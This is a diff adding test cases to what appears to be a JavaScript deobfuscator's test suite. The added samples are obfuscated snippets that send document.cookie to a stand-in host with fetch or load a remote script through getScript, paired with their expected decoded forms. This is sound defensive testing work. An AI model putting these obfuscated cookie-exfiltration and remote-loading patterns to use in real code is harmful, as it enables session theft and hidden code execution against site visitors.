@@ -267,6 +267,24 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: ['fetch("https://h.example/c"+'],
   },
   {
+    name: 'an address a built-in decoder makes from mapped codes is written back as decoded text',
+    source: `var e=[107,119,119,115,118,61,50,50,107,49,104,123,100,112,115,111,104,50,113,49,109,118];
+      function f(){var o=window.jQuery;o.getScript(String.fromCharCode.apply(null,e.map(function(t){return t-3})))}`,
+    has: ['o.getScript(atob("aHR0cHM6Ly9oLmV4YW1wbGUvbi5qcw==")'],
+  },
+  {
+    name: 'a method read off one array and called on another works on the other',
+    source: `var j=function(){return [].slice.call(arguments).join('')};fetch(j('https://h.exa','mple/c')+document.cookie)`,
+    has: ['fetch("https://h.example/c"+'],
+    not: ['fetch(""'],
+  },
+  {
+    name: 'a tagged template run by a function of the file is replaced by the text it makes',
+    source: `function t(s){return String.raw.apply(String,arguments).replace(/\\\\/g,'').split('').reverse().join('')}
+      var u=t\`c\\/elpmaxe.h\\/\\/:sptth\`;fetch(u+document.cookie)`,
+    has: ['var u="https://h.example/c"'],
+  },
+  {
     name: 'an implicit global made after a call ran is not seen by that call',
     source: `function s(){return typeof w=='string'?w:'https://h.example/a'}fetch(s()+'?'+document.cookie);w='https://h.example/b'`,
     has: [],
